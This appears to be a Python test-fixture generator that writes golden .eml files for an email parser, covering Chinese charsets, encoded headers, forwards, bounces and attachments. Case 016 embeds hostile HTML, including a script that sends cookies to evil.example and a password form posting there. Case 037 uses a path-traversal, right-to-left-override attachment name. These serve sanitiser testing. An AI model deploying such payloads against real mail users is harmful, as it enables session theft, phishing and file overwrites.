"""Build the golden mails in tests/mail/data/ (NNN-name.eml) and their expectations (NNN-name.json).

    python tests/mail/make_goldens.py               # rewrite the .eml inputs (deterministic bytes)
    python tests/mail/make_goldens.py --regenerate  # ... and rewrite every .json from parse_mail()

Every mail is written byte by byte here (no email.generator, no zlib), so the inputs do not depend on
the Python or zlib version. After --regenerate, read the changed .json files before committing them:
they are the specification.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import io
import json
import struct
import sys
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

DATA = Path(__file__).parent / "data"
OURS = "letters@zxzj.example.cn"  #: the helpdesk mailbox the goldens write to

#: parse_mail() keyword arguments for the goldens that need them
OPTIONS: dict[str, dict[str, int]] = {
    "022-oversize-attachments": {"max_attachment_bytes": 1024, "max_total_bytes": 3000},
}

# ---------------------------------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------------------------------


def lines(*parts: bytes | str) -> bytes:
    """Join header or body lines with CRLF (str parts as UTF-8)."""
    return b"\r\n".join(p.encode() if isinstance(p, str) else p for p in parts)


def mail(headers: list[bytes | str], body: bytes | str = b"") -> bytes:
    body_bytes = body.encode() if isinstance(body, str) else body
    return lines(*headers) + b"\r\n\r\n" + body_bytes


def b64(data: bytes, width: int = 76) -> bytes:
    encoded = base64.b64encode(data)
    return b"\r\n".join(encoded[i : i + width] for i in range(0, len(encoded), width))


def ew_b(text: str, charset: str = "UTF-8") -> str:
    """An RFC 2047 B encoded word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def ew_b_bytes(data: bytes, charset: str) -> str:
    return f"=?{charset}?B?{base64.b64encode(data).decode()}?="


def ew_q(text: str, charset: str = "UTF-8") -> str:
    """An RFC 2047 Q encoded word."""
    out = []
    for byte in text.encode(charset):
        char = chr(byte)
        if char == " ":
            out.append("_")
        elif char.isascii() and char.isalnum():
            out.append(char)
        else:
            out.append(f"={byte:02X}")
    return f"=?{charset}?Q?{''.join(out)}?="


def pct(data: bytes) -> str:
    return "".join(chr(b) if chr(b).isascii() and chr(b).isalnum() else f"%{b:02X}" for b in data)


def envelope(
    subject: str | bytes,
    *,
    sender: str | bytes = "Li Ming <liming@qiye.example.cn>",
    message_id: str | None = None,
    date: str = "Mon, 3 Jun 2024 10:15:00 +0800",
    extra: list[bytes | str] | None = None,
) -> list[bytes | str]:
    """The usual top headers; `message_id` None leaves the header out."""

    def raw(name: str, value: str | bytes) -> bytes:
        return name.encode() + b": " + (value.encode() if isinstance(value, str) else value)

    headers = [raw("From", sender), raw("To", OURS), raw("Subject", subject), raw("Date", date)]
    if message_id is not None:
        headers.append(raw("Message-ID", message_id))
    return headers + (extra or []) + ["MIME-Version: 1.0"]


def docx_bytes(text: str) -> bytes:
    """A tiny but valid .docx (stored, fixed timestamps: the same bytes on every machine)."""
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
            '"/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
            'document.main+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 6, 1, 0, 0, 0))
            info.create_system = 3
            info.external_attr = 0o644 << 16
            archive.writestr(info, content.encode())
    return buffer.getvalue()


def pdf_bytes(title: str) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
        b"% " + title.encode() + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415478da63f8cfc0000003"
    "010100f70341430000000049454e44ae426082"
)


def tnef_bytes(files: list[tuple[bytes, bytes]]) -> bytes:
    """A winmail.dat as Outlook writes it: signature, key, version, codepage, then per file
    attAttachRendData (starts an attachment), attAttachTitle (the name, in the OEM codepage) and
    attAttachData."""

    def obj(level: int, attribute: int, data: bytes) -> bytes:
        return struct.pack("<BII", level, attribute, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    out = struct.pack("<IH", 0x223E9F78, 0x0001)
    out += obj(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += obj(1, 0x00069007, struct.pack("<II", 936, 0))  # attOemCodepage: GBK, as on Chinese Windows
    out += obj(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")  # attMessageClass
    for name, data in files:
        out += obj(2, 0x00069002, b"\x01\x00\xff\xff\xff\xff" + b"\0" * 8)  # attAttachRendData
        out += obj(2, 0x00018010, name + b"\0")  # attAttachTitle
        out += obj(2, 0x0006800F, data)  # attAttachData
    return out


LETTER = "关于变更企业联系人的函\r\n\r\n外贸发展专项资金管理办公室：\r\n\r\n我司因人员调整，现申请变更联系人。\r\n\r\n特此函告。\r\n"

# ---------------------------------------------------------------------------------------------------
# The cases, in file order
# ---------------------------------------------------------------------------------------------------

CASES: dict[str, Callable[[], bytes]] = {}


def case(name: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES[name] = build
        return build

    return register


@case("001-plain-utf8")
def _() -> bytes:
    headers = envelope(
        ew_b("关于项目申报材料的咨询"),
        sender=f'"{ew_b("李明")}" <LiMing@Qiye.Example.CN>',
        message_id="<001@qiye.example.cn>",
        extra=["Cc: 王芳 <wangfang@qiye.example.cn>, zhaolei@qiye.example.cn"],
    )
    return mail(
        headers + ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"], LETTER
    )


@case("002-gb2312-label-gbk-text")
def _() -> bytes:
    subject = "朱镕基与陶喆：来函"
    body = "联系人：朱镕基、陶喆\r\n这两个字在 GB2312 中没有，只在 GBK 中。\r\n".encode("gbk")
    headers = envelope(ew_b_bytes(subject.encode("gbk"), "gb2312"), message_id="<002@qiye.example.cn>")
    return mail(
        headers + ["Content-Type: text/plain; charset=gb2312", "Content-Transfer-Encoding: 8bit"], body
    )


@case("003-raw-8bit-gbk-subject")
def _() -> bytes:
    headers = envelope(
        "关于申请变更企业信息的函（镕）".encode("gbk"),
        sender="张三 <zhangsan@qiye.example.cn>".encode("gbk"),
        message_id="<003@qiye.example.cn>",
    )
    return mail(headers + ["Content-Type: text/plain; charset=gbk"], "请查收附件。\r\n".encode("gbk"))


@case("004-raw-8bit-utf8-subject")
def _() -> bytes:
    headers = envelope(
        "关于申请变更企业信息的函（喆）".encode(),
        sender="张三 <zhangsan@qiye.example.cn>".encode(),
        message_id="<004@qiye.example.cn>",
    )
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "请查收。\r\n")


def _attachment_mail(message_id: str, disposition: bytes, content_type: bytes, data: bytes) -> bytes:
    headers = envelope("来函", message_id=message_id)
    body = lines(
        "--b1",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "见附件。",
        "--b1",
        content_type,
        "Content-Transfer-Encoding: base64",
        disposition,
        "",
        b64(data),
        "--b1--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="b1"'], body)


@case("005-raw-8bit-gbk-filename")
def _() -> bytes:
    name = "誠信承诺书（盖章）.pdf".encode("gbk")  # 誠 is 0xD5 0x5C in GBK: a trail byte that looks like "\"
    return _attachment_mail(
        "<005@qiye.example.cn>",
        b'Content-Disposition: attachment; filename="' + name + b'"',
        b'Content-Type: application/pdf; name="' + name + b'"',
        pdf_bytes("chengxin"),
    )


@case("006-raw-8bit-utf8-filename")
def _() -> bytes:
    name = "营业执照副本.pdf".encode()
    return _attachment_mail(
        "<006@qiye.example.cn>",
        b'Content-Disposition: attachment; filename="' + name + b'"',
        b"Content-Type: application/pdf",
        pdf_bytes("yingye"),
    )


@case("007-rfc2231-utf8-continuations")
def _() -> bytes:
    name = "关于申请变更企业信息的函".encode()
    disposition = lines(
        'Content-Disposition: attachment; filename="fallback.docx";',
        f" filename*0*=UTF-8''{pct(name[:10])};",
        f" filename*1*={pct(name[10:23])};",  # both splits fall inside a 3-byte character
        f" filename*2*={pct(name[23:])};",
        ' filename*3=".docx"',
    )
    return _attachment_mail(
        "<007@qiye.example.cn>",
        disposition,
        b"Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        docx_bytes("关于申请变更企业信息的函"),
    )


@case("008-rfc2231-gb18030-continuations")
def _() -> bytes:
    name = "刘䶮与𠮷野家的授权书.pdf".encode("gb18030")  # 䶮 and 𠮷 are not in GBK
    disposition = lines(
        "Content-Disposition: attachment;",
        f" filename*0*=gb18030'zh-cn'{pct(name[:7])};",
        f" filename*1*={pct(name[7:])}",
    )
    return _attachment_mail(
        "<008@qiye.example.cn>", disposition, b"Content-Type: application/pdf", pdf_bytes("a")
    )


@case("009-rfc2047-b-mixed-charsets")
def _() -> bytes:
    subject = f"{ew_b('申请', 'GBK')} {ew_b('资金拨付', 'UTF-8')} (2024) {ew_b('進度查詢', 'Big5')}"
    headers = envelope(subject, message_id="<009@qiye.example.cn>")
    return mail(headers + ["Content-Type: text/plain; charset=us-ascii"], "See subject.\r\n")


@case("010-rfc2047-q")
def _() -> bytes:
    headers = envelope(
        ew_q("咨询 项目编号 ZX-2024_01?", "UTF-8"),
        sender=f"{ew_q('王 芳', 'gb2312')} <wangfang@qiye.example.cn>",
        message_id="<010@qiye.example.cn>",
    )
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "Q 编码主题。\r\n")


@case("011-split-encoded-words")
def _() -> bytes:
    utf8 = "中小企业国际市场开拓资金".encode()
    gbk = "镕喆资金申请".encode("gbk")
    subject = lines(
        ew_b_bytes(utf8[:4], "UTF-8"),  # 4 bytes: one character and a third of the next
        " " + ew_b_bytes(utf8[4:17], "UTF-8"),
        " " + ew_b_bytes(utf8[17:], "UTF-8") + " / " + ew_b_bytes(gbk[:3], "GBK"),
        "\t" + ew_b_bytes(gbk[3:], "GB2312"),  # GBK and GB2312 are one charset family: joined too
    )
    headers = envelope(subject, message_id="<011@qiye.example.cn>")
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "正文。\r\n")


@case("012-base64-body-bad-padding")
def _() -> bytes:
    encoded = base64.b64encode(LETTER.encode("gb18030")).rstrip(b"=")
    broken = encoded[:40] + b"\r\n" + encoded[40:80] + b"!!\r\n" + encoded[80:]  # no padding, junk bytes
    headers = envelope("base64", message_id="<012@qiye.example.cn>")
    return mail(
        headers + ["Content-Type: text/plain; charset=GB18030", "Content-Transfer-Encoding: base64"], broken
    )


@case("013-quoted-printable")
def _() -> bytes:
    text = "外贸发展专项资金（中小）网络管理应用 账号无法登录，请协助重置密码。谢谢！= 结束"
    raw = text.encode()
    encoded = "".join(chr(b) if 32 < b < 127 and b != 61 else f"={b:02X}" for b in raw)
    wrapped = "=\r\n".join(encoded[i : i + 72] for i in range(0, len(encoded), 72))
    headers = envelope(ew_b("账号问题"), message_id="<013@qiye.example.cn>")
    body = wrapped + "\r\n第二行 raw？=E4=B8=AD\r\n"
    return mail(
        headers + ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"],
        body,
    )


def _inner_letter(message_id: str, subject: str, attachment: tuple[str, str, bytes] | None) -> bytes:
    headers = envelope(
        ew_b(subject),
        sender=f"{ew_b('赵磊')} <zhaolei@qiye.example.cn>",
        message_id=message_id,
        date="Fri, 31 May 2024 16:20:00 +0800",
    )
    if attachment is None:
        return mail(headers + ["Content-Type: text/plain; charset=utf-8"], LETTER)
    name, ctype, data = attachment
    body = lines(
        "--inner",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        b64(LETTER.encode()),
        "--inner",
        f"Content-Type: {ctype}",
        "Content-Transfer-Encoding: base64",
        f'Content-Disposition: attachment; filename="{ew_b(name)}"',
        "",
        b64(data),
        "--inner--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="inner"'], body)


@case("014-forward-with-attachment")
def _() -> bytes:
    inner = _inner_letter(
        "<orig-014@qiye.example.cn>", "盖章函件", ("盖章函.pdf", "application/pdf", pdf_bytes("g"))
    )
    headers = envelope(ew_b("转发：盖章函件"), message_id="<014@qiye.example.cn>")
    body = lines(
        "--outer",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "领导，请看下面转发的来函。",
        "--outer",
        "Content-Type: message/rfc822",
        'Content-Disposition: attachment; filename="forwarded.eml"',
        "",
        inner,
        "--outer--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="outer"'], body)


@case("015-nested-forward")
def _() -> bytes:
    docx = (
        "申请表.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        docx_bytes("申请表"),
    )
    innermost = _inner_letter("<orig-015@qiye.example.cn>", "申请表", docx)
    middle_headers = envelope(
        ew_b("Fw: 申请表"),
        sender="wangfang@qiye.example.cn",
        message_id="<mid-015@qiye.example.cn>",
        date="Sat, 1 Jun 2024 09:00:00 +0800",
    )
    middle = mail(
        middle_headers + ['Content-Type: multipart/mixed; boundary="middle"'],
        lines(
            "--middle",
            "Content-Type: text/plain; charset=utf-8",
            "",
            "转给你。",
            "--middle",
            "Content-Type: message/rfc822",
            "",
            innermost,
            "--middle--",
            "",
        ),
    )
    headers = envelope(ew_b("Fwd: Fw: 申请表"), message_id="<015@qiye.example.cn>")
    body = lines(
        "--outer",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "再转一次。",
        "--outer",
        "Content-Type: message/rfc822",
        "",
        middle,
        "--outer--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="outer"'], body)


MALICIOUS_HTML = """<html><head><title>标题不应出现</title><style>body { background: url(http://evil.example/x) }</style>
<script>alert("head")</script></head>
<body onload="steal()">
<p style="color: red; position: fixed; top: 0">尊敬的老师：</p>
<p>请点击<a href="javascript:alert(1)">这里</a>或<a href="https://www.example.gov.cn/notice?id=1&amp;x=2" onclick="x()">通知</a>。</p>
<img src="x" onerror="alert('img')"><img src="http://tracker.example/pixel.gif" alt="跟踪">
<img src="cid:seal@qiye" alt="公章"><img src="data:image/png;base64,iVBORw0KGgo=" alt="内嵌">
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>
<form action="https://evil.example/login"><input name="password"></form>
<table border="1"><tr><td>企业名称</td><td>某某进出口有限公司</td></tr><tr><td>编号</td><td>ZX-001</td></tr></table>
<ul><li>第一项</li><li>第二项</li></ul>
<script>document.location="https://evil.example/?c="+document.cookie</script>
<p>此致<br>敬礼</p>
</body></html>
"""


@case("016-html-only-malicious")
def _() -> bytes:
    headers = envelope(ew_b("HTML 邮件"), message_id="<016@qiye.example.cn>")
    return mail(
        headers + ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit"],
        MALICIOUS_HTML,
    )


@case("017-multipart-alternative")
def _() -> bytes:
    headers = envelope(ew_b("资金申请进度", "GBK"), message_id="<017@qiye.example.cn>")
    html = "<div>您好，<b>请问</b>我司资金申请的进度？</div><div>谢谢</div>".encode("gbk")
    body = lines(
        "--alt",
        "Content-Type: text/plain; charset=gbk",
        "Content-Transfer-Encoding: base64",
        "",
        b64("您好，请问我司资金申请的进度？\r\n谢谢\r\n".encode("gbk")),
        "--alt",
        "Content-Type: text/html; charset=gbk",
        "Content-Transfer-Encoding: base64",
        "",
        b64(html),
        "--alt--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/alternative; boundary="alt"'], body)


@case("018-no-message-id")
def _() -> bytes:
    headers = envelope("No Message-ID", message_id=None)
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "没有 Message-ID 的邮件。\r\n")


@case("019-broken-boundary")
def _() -> bytes:
    headers = envelope("boundary mismatch", message_id="<019@qiye.example.cn>")
    body = lines(
        "------=_Part_REAL",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "声明的边界与正文中的不一致。",
        "------=_Part_REAL",
        "Content-Type: application/pdf",
        'Content-Disposition: attachment; filename="report.pdf"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(pdf_bytes("report")),
        "------=_Part_REAL--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="----=_Part_DECLARED"'], body)


@case("020-missing-closing-boundary")
def _() -> bytes:
    headers = envelope("no closing boundary", message_id="<020@qiye.example.cn>")
    body = lines(
        "--cut",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "最后一个边界丢失了。",
        "--cut",
        "Content-Type: application/pdf",
        'Content-Disposition: attachment; filename="cut.pdf"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(pdf_bytes("cut")),
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="cut"'], body)


@case("021-no-boundary-parameter")
def _() -> bytes:
    headers = envelope("multipart without boundary", message_id="<021@qiye.example.cn>")
    return mail(headers + ["Content-Type: multipart/mixed"], "这封邮件声明为 multipart，但没有边界。\r\n")


@case("022-oversize-attachments")
def _() -> bytes:
    headers = envelope("big attachments", message_id="<022@qiye.example.cn>")
    parts: list[bytes | str] = ["--big", "Content-Type: text/plain; charset=utf-8", "", "五个附件。"]
    sizes = [("too-big.bin", 2000), ("a.bin", 900), ("b.bin", 900), ("c.bin", 900), ("d.bin", 900)]
    for index, (name, size) in enumerate(sizes):
        data = bytes((index * 7 + i) % 251 for i in range(size))
        parts += [
            "--big",
            "Content-Type: application/octet-stream",
            "Content-Transfer-Encoding: base64",
            f'Content-Disposition: attachment; filename="{name}"',
            "",
            b64(data),
        ]
    return mail(headers + ['Content-Type: multipart/mixed; boundary="big"'], lines(*parts, "--big--", ""))


@case("023-empty")
def _() -> bytes:
    return b""


@case("024-headers-only")
def _() -> bytes:
    return lines(*envelope("headers only", message_id="<024@qiye.example.cn>")) + b"\r\n"


def _our_ack(message_id: str) -> bytes:
    return mail(
        [
            f"From: {OURS}",
            "To: liming@qiye.example.cn",
            f"Subject: {ew_b('[ZXZJ#123] 已收到您的来函')}",
            "Date: Mon, 3 Jun 2024 10:20:00 +0800",
            f"Message-ID: <{message_id}>",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "您的来函已收到，编号 ZXZJ#123。\r\n",
    )


@case("025-dsn-bounce")
def _() -> bytes:
    headers = envelope(
        "Undelivered Mail Returned to Sender",
        sender="MAILER-DAEMON@mx.zxzj.example.cn (Mail Delivery System)",
        message_id="<dsn-025@mx.zxzj.example.cn>",
        extra=["Auto-Submitted: auto-replied", "Return-Path: <>"],
    )
    body = lines(
        "--dsn",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "I'm sorry to have to inform you that your message could not be delivered.",
        "<nobody@qiye.example.cn>: host mx.qiye.example.cn said: 550 User unknown",
        "--dsn",
        "Content-Type: message/delivery-status",
        "",
        "Reporting-MTA: dns; mx.zxzj.example.cn",
        "",
        "Final-Recipient: rfc822; nobody@qiye.example.cn",
        "Action: failed",
        "Status: 5.1.1",
        "Diagnostic-Code: smtp; 550 User unknown",
        "",
        "--dsn",
        "Content-Type: message/rfc822",
        "",
        _our_ack("ack-123@zxzj.example.cn"),
        "--dsn--",
        "",
    )
    return mail(
        headers + ['Content-Type: multipart/report; report-type=delivery-status; boundary="dsn"'], body
    )


@case("026-dsn-rfc822-headers")
def _() -> bytes:
    headers = envelope(
        "Undeliverable: " + ew_b("[ZXZJ#124] 请补充材料"),
        sender="postmaster@qiye.example.cn",
        message_id="<dsn-026@qiye.example.cn>",
    )
    original = lines(
        f"From: {OURS}",
        "To: nobody@qiye.example.cn",
        "Subject: =?utf-8?B?W1pYWkojMTI0XSDor7fooaXlhYXmnZDmlpk=?=",
        "Message-ID: <ack-124@zxzj.example.cn>",
        "",
    )
    body = lines(
        "--r",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "邮件无法送达：收件人不存在。",
        "--r",
        "Content-Type: message/delivery-status",
        "",
        "Final-Recipient: rfc822;nobody@qiye.example.cn",
        "Action: failed",
        "Status: 5.1.10",
        "",
        "--r",
        "Content-Type: text/rfc822-headers",
        "",
        original,
        "--r--",
        "",
    )
    return mail(
        headers + ['Content-Type: multipart/report; report-type="delivery-status"; boundary="r"'], body
    )


@case("027-auto-reply")
def _() -> bytes:
    headers = envelope(
        ew_b("自动回复: [ZXZJ#123] 已收到您的来函"),
        message_id="<027@qiye.example.cn>",
        extra=["Auto-Submitted: auto-replied", "In-Reply-To: <ack-123@zxzj.example.cn>"],
    )
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "我正在休假，6 月 10 日返回。\r\n")


@case("028-out-of-office-exchange")
def _() -> bytes:
    headers = envelope(
        "Automatic reply: " + ew_b("[ZXZJ#123] 已收到您的来函"),
        message_id="<028@qiye.example.cn>",
        extra=["X-Auto-Response-Suppress: All", "Thread-Topic: ZXZJ"],
    )
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "I am out of the office.\r\n")


@case("029-precedence-bulk")
def _() -> bytes:
    headers = envelope(
        ew_b("【通知】系统维护公告"),
        sender=f"{ew_b('平台通知')} <noreply@notice.example.cn>",
        message_id="<029@notice.example.cn>",
        extra=[
            "Precedence: bulk",
            "List-Id: <notice.example.cn>",
            "List-Unsubscribe: <mailto:unsubscribe@notice.example.cn>",
            "X-Loop: notice.example.cn",
        ],
    )
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], "系统将于周六维护。\r\n")


def _tnef_mail(message_id: str, tnef: bytes, subject: str) -> bytes:
    headers = envelope(subject, message_id=message_id)
    body = lines(
        "--t",
        "Content-Type: text/plain; charset=gb2312",
        "",
        "请查收附件。".encode("gbk"),
        "--t",
        'Content-Type: application/ms-tnef; name="winmail.dat"',
        "Content-Transfer-Encoding: base64",
        'Content-Disposition: attachment; filename="winmail.dat"',
        "",
        b64(tnef),
        "--t--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="t"'], body)


@case("030-winmail-dat")
def _() -> bytes:
    tnef = tnef_bytes([("申请表.docx".encode("gbk"), docx_bytes("申请表")), (b"scan.pdf", pdf_bytes("scan"))])
    return _tnef_mail("<030@qiye.example.cn>", tnef, "winmail.dat")


@case("031-tnef-undecodable")
def _() -> bytes:
    return _tnef_mail("<031@qiye.example.cn>", b"PK\x03\x04 not a TNEF signature", "broken winmail.dat")


@case("032-letter-docx")
def _() -> bytes:
    name = ew_b("关于变更企业联系人的函.docx", "gb2312")
    headers = envelope(
        ew_b("关于变更企业联系人的函", "gb2312"),
        sender=f'"{ew_b("李明", "gb2312")}" <liming@qiye.example.cn>',
        message_id="<032.ABCDEF@qiye.example.cn>",
        extra=["X-Mailer: Microsoft Outlook 16.0", "Thread-Index: AdqzYWJjZGVm"],
    )
    body = lines(
        "--mixed",
        'Content-Type: multipart/alternative; boundary="alt"',
        "",
        "--alt",
        'Content-Type: text/plain; charset="gb2312"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("您好：\r\n\r\n附件是我司盖章的变更联系人函，请审核。\r\n\r\n李明\r\n".encode("gbk")),
        "--alt",
        'Content-Type: text/html; charset="gb2312"',
        "Content-Transfer-Encoding: quoted-printable",
        "",
        '<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=3Dgb2312"><style>p.MsoNormal{margin:0}</style></head>'
        '<body><p class=3D"MsoNormal">=C4=FA=BA=C3=A3=BA<o:p></o:p></p></body></html>',
        "--alt--",
        "",
        "--mixed",
        f'Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document; name="{name}"',
        "Content-Transfer-Encoding: base64",
        f'Content-Disposition: attachment; filename="{name}"; size=1234;',
        '\tcreation-date="Mon, 03 Jun 2024 02:15:00 GMT"',
        "",
        b64(docx_bytes("关于变更企业联系人的函")),
        "--mixed",
        f'Content-Type: application/pdf; name="{ew_b("营业执照.pdf", "gb2312")}"',
        "Content-Transfer-Encoding: base64",
        f'Content-Disposition: attachment; filename="{ew_b("营业执照.pdf", "gb2312")}"',
        "",
        b64(pdf_bytes("license")),
        "--mixed--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="mixed"'], body)


@case("033-unknown-charset")
def _() -> bytes:
    headers = envelope(
        ew_b_bytes("未知字符集".encode("gbk"), "x-unknown"), message_id="<033@qiye.example.cn>"
    )
    body = "字符集标签是 x-unknown，内容是 GBK：镕喆。\r\n".encode("gbk")
    return mail(headers + ["Content-Type: text/plain; charset=x-unknown"], body)


@case("034-big5")
def _() -> bytes:
    subject = ew_b("關於申請資金的函", "big5")
    headers = envelope(
        subject, sender="Chan Tai Man <chan@hk.example.com>", message_id="<034@hk.example.com>"
    )
    body = "我們是香港企業，啱啱收到通知。\r\n".encode("big5hkscs")  # 啱 is HKSCS, not plain Big5
    return mail(headers + ["Content-Type: text/plain; charset=big5"], body)


@case("035-utf8-label-gbk-bytes")
def _() -> bytes:
    headers = envelope(ew_b("标签说是 UTF-8"), message_id="<035@qiye.example.cn>")
    body = "标签写的是 UTF-8，实际内容是 GBK 编码的中文。朱镕基\r\n".encode("gbk")
    return mail(
        headers + ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"], body
    )


@case("036-outlook-name-only")
def _() -> bytes:
    headers = envelope("name only", message_id="<036@qiye.example.cn>")
    name = ew_b("C:\\Users\\lm\\桌面\\申请函.doc", "gb2312")  # Outlook sometimes sends the whole path
    body = lines(
        "--o",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "附件只在 Content-Type 的 name 参数里有文件名。",
        "--o",
        f'Content-Type: application/msword; name="{name}"',
        "Content-Transfer-Encoding: base64",
        "Content-Disposition: attachment",
        "",
        b64(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 56),
        "--o--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="o"'], body)


@case("037-unnamed-attachments")
def _() -> bytes:
    headers = envelope("unnamed", message_id="<037@qiye.example.cn>")
    body = lines(
        "--u",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "附件没有文件名。",
        "--u",
        "Content-Type: application/pdf",
        "Content-Transfer-Encoding: base64",
        "Content-Disposition: attachment",
        "",
        b64(pdf_bytes("noname")),
        "--u",
        "Content-Type: image/png",
        "Content-Transfer-Encoding: base64",
        "Content-ID: <scan01>",
        "",
        b64(PNG),
        "--u",
        "Content-Type: application/x-unknown-thing",
        "Content-Transfer-Encoding: base64",
        'Content-Disposition: attachment; filename="../../etc/\x01passwd\u202egpj.exe"',
        "",
        b64(b"MZ"),
        "--u--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/mixed; boundary="u"'], body)


@case("038-related-inline-image")
def _() -> bytes:
    headers = envelope(ew_b("带公章图片的邮件"), message_id="<038@qiye.example.cn>")
    body = lines(
        "--alt",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "见下方公章。",
        "--alt",
        'Content-Type: multipart/related; boundary="rel"; type="text/html"',
        "",
        "--rel",
        "Content-Type: text/html; charset=utf-8",
        "",
        '<p>见下方公章。</p><p><img src="cid:seal.png@01DA" alt="公章" width="80"></p>',
        "--rel",
        'Content-Type: image/png; name="seal.png"',
        "Content-Transfer-Encoding: base64",
        "Content-ID: <seal.png@01DA>",
        'Content-Disposition: inline; filename="seal.png"',
        "",
        b64(PNG),
        "--rel--",
        "",
        "--alt--",
        "",
    )
    return mail(headers + ['Content-Type: multipart/alternative; boundary="alt"'], body)


@case("039-read-receipt")
def _() -> bytes:
    headers = envelope(ew_b("已读: [ZXZJ#123] 已收到您的来函"), message_id="<039@qiye.example.cn>")
    body = lines(
        "--mdn",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "您的邮件已被阅读。",
        "--mdn",
        "Content-Type: message/disposition-notification",
        "",
        "Final-Recipient: rfc822; liming@qiye.example.cn",
        "Original-Message-ID: <ack-123@zxzj.example.cn>",
        "Disposition: manual-action/MDN-sent-manually; displayed",
        "",
        "--mdn--",
        "",
    )
    return mail(
        headers + ['Content-Type: multipart/report; report-type=disposition-notification; boundary="mdn"'],
        body,
    )


@case("040-plain-text-bounce")
def _() -> bytes:
    headers = envelope(
        ew_b("系统退信"),
        sender="MAILER-DAEMON <MAILER-DAEMON@qiye.example.cn>",
        message_id="<bounce-040@qiye.example.cn>",
    )
    body = "\r\n".join(
        [
            "很抱歉，您发送的邮件被退回。",
            "收件人：nobody@qiye.example.cn",
            "原因：用户不存在",
            "",
            "------ 原邮件头 ------",
            f"From: {OURS}",
            "Subject: [ZXZJ#125] ...",
            "Message-ID: <ack-125@zxzj.example.cn>",
            "",
        ]
    )
    return mail(headers + ["Content-Type: text/plain; charset=utf-8"], body)


@case("041-reply-with-tag-bare-lf")
def _() -> bytes:
    headers = envelope(
        "回复：" + ew_b("[ZXZJ#123] 已收到您的来函"),
        message_id="<041@qiye.example.cn>",
        date="Tue, 4 Jun 2024 08:00:00 -0000",
        extra=[
            "In-Reply-To: <ack-123@zxzj.example.cn> (message from letters)",
